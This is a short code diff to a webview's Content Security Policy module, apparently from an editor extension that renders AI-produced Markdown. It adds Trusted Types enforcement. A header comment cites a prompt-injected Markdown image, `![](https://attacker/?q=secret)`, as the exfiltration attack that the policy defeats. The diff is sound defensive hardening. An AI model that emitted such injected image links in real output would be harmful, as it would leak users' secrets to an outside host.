@@ -1,7 +1,8 @@
 /**
  * The webview document: strict CSP with a per-load nonce, no inline script (dist/webview.js mounts <as-app> itself), everything loaded
  * from dist/ through asWebviewUri. No remote fetches of any kind (img/connect/frame are local or none),
- * so a prompt-injected `![](https://attacker/?q=secret)` cannot leak anything.
+ * so a prompt-injected `![](https://attacker/?q=secret)` cannot leak anything. Trusted Types are
+ * required, so HTML reaches the DOM only through lit's templates or DOMPurify (the Markdown).
  */
 import { randomBytes } from 'node:crypto';
 
@@ -33,6 +34,10 @@ export function contentSecurityPolicy(cspSource: string, nonce: string): string 
     "frame-src 'none'",
     "form-action 'none'",
     "base-uri 'none'",
+    // Every DOM sink (innerHTML, script text, …) takes only trusted values: a string from an
+    // injected script throws. Lit's templates and DOMPurify's sanitised Markdown are the only makers.
+    "require-trusted-types-for 'script'",
+    'trusted-types lit-html dompurify',
   ].join('; ');
 }
 
